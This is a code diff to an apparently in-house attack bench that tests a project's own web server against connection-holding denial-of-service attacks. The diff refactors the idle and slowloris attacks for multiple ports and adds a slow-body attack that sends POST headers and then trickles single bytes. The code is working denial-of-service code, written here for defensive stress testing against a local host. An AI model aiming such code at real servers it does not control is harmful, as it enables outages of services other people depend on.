@@ -1,13 +1,12 @@
-"""The attacks by connections held open (idle, slowloris): raw TCP connections (Held) and
-WebSockets opened by the thousand and held, counting how many the server let be held and for
-how long; pegrace.web.attacks says each in a line."""
+"""The attacks by connections held open (idle, slowloris, slow-body): raw TCP connections
+(Held) and WebSockets opened by the thousand and held, counting how many the server let be held
+and for how long; pegrace.web.attacks says each in a line."""
 
 from __future__ import annotations
 
 import asyncio
 import functools
 import time
-from collections.abc import Callable
 from typing import Any, cast
 
 from pegrace.web.attackbench.attack import Attack
@@ -15,14 +14,17 @@ from pegrace.web.attackbench.clients import Refused, Socket, close_reason
 from pegrace.web.loadbench import HOST, percentile
 
 REOPEN = 100  # raw connections opened again a second, at most, as the server closes them
+SLOW_BODIES = 60  # slow-body: connections, at most
+SLOW_BODY_BYTES = 60_000  # the body each promises (under the server's 64 KiB)
+SLOW_BODY_SECONDS = 3.0  # and a byte of it every so often
 
 
 class Held(asyncio.Protocol):
     """A raw TCP connection the attack holds open (slowloris, idle), noticing when the server
     answers or closes it."""
 
-    def __init__(self, attack: ConnectionsAttack, kind: str) -> None:
-        self.attack, self.kind = attack, kind
+    def __init__(self, attack: ConnectionsAttack, kind: str, port: int) -> None:
+        self.attack, self.kind, self.port = attack, kind, port
         self.transport: asyncio.Transport | None = None
         self.opened = time.perf_counter()
         self.answer = b""
@@ -57,20 +59,20 @@ class Held(asyncio.Protocol):
 class ConnectionsAttack(Attack):
     """An attack by connections held open: counts them and how long the server let them be."""
 
-    def __init__(self, port: int, seed: int, connections: int, local: str) -> None:
-        super().__init__(port, seed, connections, local)
+    def __init__(self, ports: list[int], seed: int, connections: int, local: str) -> None:
+        super().__init__(ports, seed, connections, local)
         self.held: set[Held] = set()
         self.lifetimes: list[float] = []
         self.peak = 0  # raw connections held a second or more, at most (sampled)
 
     async def connect(self, kind: str) -> Held | None:
         """A raw TCP connection (counted in ``sent``), None where it was not made."""
-        counts, loop = self.counts, asyncio.get_running_loop()
+        counts, loop, port = self.counts, asyncio.get_running_loop(), self.next_port()
         counts.sent += 1
         try:
             async with asyncio.timeout(5.0):
                 _, held = await loop.create_connection(
-                    lambda: Held(self, kind), HOST, self.port, local_addr=(self.local, 0)
+                    lambda: Held(self, kind, port), HOST, port, local_addr=(self.local, 0)
                 )
         except TimeoutError:
             counts.refused[f"{kind}: connect timed out"] += 1
@@ -83,9 +85,14 @@ class ConnectionsAttack(Attack):
             return None
         return held
 
-    async def open_many(self, kinds: list[str], total: int, first: Callable[[Held], None]) -> None:
-        """Open ``total`` raw connections, ``kinds`` in turn, 200 at a time; then, once a
-        second, open again (at most REOPEN) as many as the server has closed."""
+    def start(self, held: Held) -> bytes:
+        """What a connection of ``held``'s kind sends first (nothing, here)."""
+        return b""
+
+    async def open_many(self, kinds: list[str], total: int) -> None:
+        """Open ``total`` raw connections, ``kinds`` in turn, 200 at a time, each sending its
+        start; then, once a second, open again (at most REOPEN) as many as the server has
+        closed."""
         opened = 0
         while True:
             held = sum(1 for h in self.held if h.kind in kinds)
@@ -95,7 +102,7 @@ class ConnectionsAttack(Attack):
             )
             for connection in made:
                 if connection is not None:
-                    first(connection)
+                    connection.write(self.start(connection))
             opened += batch
             if any(k.endswith("Too many open files") for k in self.counts.errors):
                 return  # this process cannot hold more
@@ -164,7 +171,7 @@ class IdleAttack(ConnectionsAttack):
         counts = self.counts
         counts.sent += 1
         try:
-            socket = await Socket.open(self.port, self.path, self.local)
+            socket = await Socket.open(self.next_port(), self.path, self.local)
         except (Refused, OSError, TimeoutError) as err:
             what = str(err) if isinstance(err, Refused) else type(err).__name__
             (counts.refused if isinstance(err, Refused) else counts.errors)[
@@ -185,7 +192,7 @@ class IdleAttack(ConnectionsAttack):
     async def raw(self, turned_away: asyncio.Event) -> None:
         """Once the WebSockets are refused, idle raw TCP connections too."""
         await turned_away.wait()
-        await self.open_many(["idle tcp"], self.connections, lambda held: None)
+        await self.open_many(["idle tcp"], self.connections)
         await asyncio.Event().wait()
 
 
@@ -193,26 +200,23 @@ class SlowlorisAttack(ConnectionsAttack):
     KINDS = ("half line", "headers", "nothing", "trickled body")
 
     async def run(self) -> None:
-        host = f"{HOST}:{self.port}"
-        starts = {
-            "half line": b"GET /api/cat",
-            "headers": f"GET /api/catalog HTTP/1.1\r\nHost: {host}\r\nUser-Agent: x\r\n".encode(),
-            "nothing": b"",
-            "trickled body": (
-                f"POST /api/games HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/json\r\n"
-                "Content-Length: 4096\r\n\r\n"
-            ).encode(),
-        }
-
-        def first(held: Held) -> None:
-            held.write(starts[held.kind])
-
         trickle = asyncio.create_task(self.trickle())
         try:
-            await self.open_many(list(self.KINDS), self.connections, first)
+            await self.open_many(list(self.KINDS), self.connections)
             await trickle
         finally:
             trickle.cancel()
+
+    def start(self, held: Held) -> bytes:
+        """What a connection of ``held``'s kind sends first."""
+        host = f"{HOST}:{held.port}"
+        if held.kind == "half line":
+            return b"GET /api/cat"
+        if held.kind == "headers":
+            return f"GET /api/catalog HTTP/1.1\r\nHost: {host}\r\nUser-Agent: x\r\n".encode()
+        if held.kind == "trickled body":
+            return post_head(held.port, "/api/games", 4096)
+        return b""
 
     async def trickle(self) -> None:
         """A byte a second on every trickled body; a header line every 10 s on "headers"."""
@@ -225,3 +229,37 @@ class SlowlorisAttack(ConnectionsAttack):
                     held.write(b" ")
                 elif held.kind == "headers" and tick % 10 == 0:
                     held.write(f"X-{tick}: {tick}\r\n".encode())
+
+
+def post_head(port: int, path: str, length: int) -> bytes:
+    """A JSON POST's request line and headers, its body of ``length`` bytes yet to come."""
+    return (
+        f"POST {path} HTTP/1.1\r\nHost: {HOST}:{port}\r\nContent-Type: application/json\r\n"
+        f"Content-Length: {length}\r\n\r\n"
+    ).encode()
+
+
+class SlowBodyAttack(ConnectionsAttack):
+    """POST bodies that promise SLOW_BODY_BYTES and come a byte every SLOW_BODY_SECONDS, on
+    SLOW_BODIES connections (under the 64 one address may hold: what turns them away is the
+    body's rate, not the cap), each opened again once the server closes it."""
+
+    KINDS = ("slow body /api/games", "slow body /api/qr")
+
+    def start(self, held: Held) -> bytes:
+        path = held.kind.removeprefix("slow body ")
+        return post_head(held.port, path, SLOW_BODY_BYTES) + b"{"
+
+    async def run(self) -> None:
+        drip = asyncio.create_task(self.drip())
+        try:
+            await self.open_many(list(self.KINDS), min(self.connections, SLOW_BODIES))
+        finally:
+            drip.cancel()
+
+    async def drip(self) -> None:
+        """A byte on every connection every SLOW_BODY_SECONDS."""
+        while True:
+            await asyncio.sleep(SLOW_BODY_SECONDS)
+            for held in list(self.held):
+                held.write(b" ")
